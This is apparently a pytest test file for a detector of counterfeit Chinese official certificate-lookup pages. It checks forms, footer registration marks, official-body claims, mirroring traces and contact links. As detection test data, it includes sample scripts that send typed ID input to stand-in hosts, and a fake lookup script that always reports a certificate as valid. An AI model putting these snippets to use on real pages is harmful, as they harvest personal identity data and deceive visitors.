"""Forms, footer marks, claims, borrowing, likeness: the parts that rules are made of."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from detectors.page.borrowing import assets, copying_marks, linked_contacts, may_link_contacts, official_signs
from detectors.page.claims import claims_of
from detectors.page.document import Document
from detectors.page.footer import host_lines, marks_of
from detectors.page.forms import answers_itself, loads_from, lookup_forms
from detectors.page.headings import _words, headings_of
from detectors.page.reference import Reference, reference_of
from detectors.text.lexicon import Lexicon
from detectors.text.visible import parse
from zhenwei.errors import BadInput
from zhenwei.types import Page
from zhenwei.watchlist import Watchlist


@pytest.mark.parametrize(
    ("html", "asks"),
    [
        ("<form><input name=xm><input name=sfzh><button>查询</button></form>", {"name", "id"}),
        (
            "<form>姓　名：<input name=a><br>证书编号：<input name=b><input type=submit value='查 询'></form>",
            {"name", "certificate"},
        ),
        ("<div><input placeholder=請輸入姓名><input placeholder=身份證號><button>查詢</button></div>", {"name", "id"}),
        ("<form><input placeholder=证件号码><input name=yzm><a class=btn>核验</a></form>", {"id", "captcha"}),
        ("<form><input name=q placeholder=站内搜索><button>搜索</button></form>", None),
        ("<form><input name=user placeholder=身份证号><input type=password><button>登录查询</button></form>", None),
        (
            "<form><input placeholder=姓名><input placeholder=身份证号><button>立即报名</button></form>",
            None,
        ),
        ("<p>没有表单，只说查询</p>", None),
    ],
)
def test_lookup_forms(html: str, asks: set[str] | None) -> None:
    tree = parse(html)
    assert tree is not None
    forms = list(lookup_forms(tree))
    assert [set(f.asks) for f in forms] == ([asks] if asks else [])


def test_where_scripts_send_what_was_typed() -> None:
    scripts = ("fetch('https://api.taker.example.com/q?id='+v)", '$.post("//203.0.113.9/save", d)', "fetch('/own')")
    assert loads_from(scripts) == ("api.taker.example.com", "203.0.113.9")


def test_a_script_that_answers_itself() -> None:
    fake = "function q(){document.getElementById('r').innerHTML='证书状态：有效'}"
    assert answers_itself((fake,), None)
    assert not answers_itself((fake + ";fetch('/api')",), None)
    assert not answers_itself(("var a=document.getElementById('x').value",), None)
    assert answers_itself(("el=document.querySelector('#a');el.innerHTML='\\u51c6\\u64cd\\u9879\\u76ee'",), None)


@pytest.mark.parametrize(
    ("text", "odd"),
    [
        ("京ICP备13034501号-1 京公网安备 11010102000001号", False),
        ("蜀ICP备2020000001号 川公网安备51010702000001号", False),
        ("浙ICP备1234567号", True),
        ("萌ICP备20200000号", True),
        ("京公网安备 33010602000001号", True),
        ("网站标识码bm123", True),
        ("网站标识码：3300000001", False),
        ("没有标识", False),
    ],
)
def test_marks(text: str, odd: bool) -> None:
    assert bool(marks_of(text, "").odd) is odd


def test_host_lines() -> None:
    lines = host_lines("主办单位：某某学校 电话\nCopyright © 2020-2026 某某公司\n应急管理部 版权所有")
    assert any("某某学校" in line for line in lines)
    assert any("某某公司" in line for line in lines)
    assert "应急管理部" in lines
    assert host_lines("主办单位：\n某某协会\n技术支持：某某公司") == ("某某协会",)
    assert host_lines("主办：某某区人民政府办公室 承办：某某中心") == ("某某区人民政府办公室",)
    assert host_lines("9月9日，由区委主办，某某公司承办的活动") == ()


@pytest.mark.parametrize(
    ("title", "kind"),
    [
        ("应急管理部", "organ"),
        ("首页-中华人民共和国应急管理部官网", "organ"),
        ("應 急 管 理 部", "organ"),
        ("杭州市应急管理局", "organ"),
        ("特种作业操作证及安全生产知识和管理能力考核合格信息查询", "lookup"),
        ("全国特种作业人员证书查询系统", "platform"),
        ("特种作业操作证查询", "topic"),
        ("应急管理部发布新规：特种作业操作证换证", None),
        ("关于启用特种作业操作证及安全生产知识和管理能力考核合格信息查询平台的通知", None),
        ("特种设备作业人员证查询", None),
        ("恒源职业培训学校", None),
    ],
)
def test_claims(title: str, kind: str | None, watchlist: Watchlist) -> None:
    kinds = [c.kind for c in claims_of([("title", title)], (), watchlist)]
    assert (kinds[0] if kinds else None) == kind


def test_claims_name_their_target(watchlist: Watchlist) -> None:
    assert claims_of([("title", "浙江省应急管理厅")], (), watchlist)[0].target == "zhejiang"
    assert claims_of([], ("应急管理部",), watchlist)[0].target == "mem"


def test_copying_marks_and_assets() -> None:
    marks = dict(copying_marks("<!-- Mirrored from www.mem.gov.cn/a.html by HTTrack Website Copier/3.x -->"))
    assert marks == {"HTTrack": "www.mem.gov.cn"}
    tree = parse("<img src='//www.mem.gov.cn/logo.png'><a href='https://cx.mem.gov.cn/'>x</a>")
    assert list(assets(tree, "http://a.example.com/")) == ["www.mem.gov.cn"]


def test_a_reference_survives_json(page_of: Callable[..., Page]) -> None:
    reference = reference_of(page_of("<title>甲</title>" + "<p>查询平台的说明文字</p>" * 20, favicon=b"icon"), "mem")
    assert Reference.from_json(reference.to_json()) == reference
    with pytest.raises(BadInput):
        Reference.from_json({"organ": "mem"})


def test_of_a_heading_as_long_as_the_page_only_the_beginning_is_read() -> None:
    short, long = (parse("<h1>" + "<b>特种作业</b>" * times) for times in (1000, 16_000))
    assert short is not None
    assert long is not None
    assert len(_words(long)) == len(_words(short)) < 1000
    assert headings_of(long, "") == []


def test_a_page_without_the_letters_of_an_organs_host_is_not_searched_for_links_to_one(watchlist: Watchlist) -> None:
    signs = official_signs(watchlist)
    hosts = [host for organ in watchlist.organs.values() for host in organ.domains]
    assert all(any(sign in host for sign in signs) for host in hosts)


@pytest.mark.parametrize(
    "link", ['<a href="TEL:13800000000">', '<a href="&#116;el:13800000000">', "<p ONCLICK=\"copy('abc12345')\">"]
)
def test_letters_that_may_be_a_linked_contact_are_seen(link: str) -> None:
    assert may_link_contacts(link.lower())
    assert linked_contacts(parse(link + "联系"))


def test_a_title_as_long_as_a_page_is_read_only_at_its_beginning(
    watchlist: Watchlist, page_of: Callable[..., Page]
) -> None:
    pages = (page_of(f"<title>{'办证' * times}</title>") for times in (20_000, 320_000))
    short, long = (Document(page, "", watchlist, Lexicon(watchlist.lexicon)) for page in pages)
    assert len(long.head.folded.original) == len(short.head.folded.original) < 40_000
